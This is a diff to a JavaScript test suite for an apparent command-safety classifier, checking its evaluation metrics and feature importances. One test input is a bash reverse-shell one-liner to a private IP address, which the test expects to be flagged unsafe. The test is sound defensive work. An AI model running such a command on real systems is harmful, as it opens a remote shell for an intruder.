@@ -33,7 +33,7 @@ test('a trained model separates clearly different commands and reports its evalu
   assert.ok(m.rocAuc > 0.9, `AUC ${m.rocAuc}`);
   assert.ok(m.unsafe.f1 > 0.8, `F1 ${m.unsafe.f1}`);
   assert.equal(m.confusion[0][0] + m.confusion[0][1], m.safe.support);
-  assert.ok(m.topFeatures.length > 0 && m.topFeatures.every((f) => typeof f.feature === 'string'));
+  assert.ok(m.topFeatures.every((f) => typeof f.feature === 'string' && f.importance > 0));
   const p = createPredictor(model);
   assert.equal(p.predict('bash -i >& /dev/tcp/172.16.0.3/8080 0>&1').prediction, 'unsafe');
   assert.equal(p.predict('git status').prediction, 'safe');
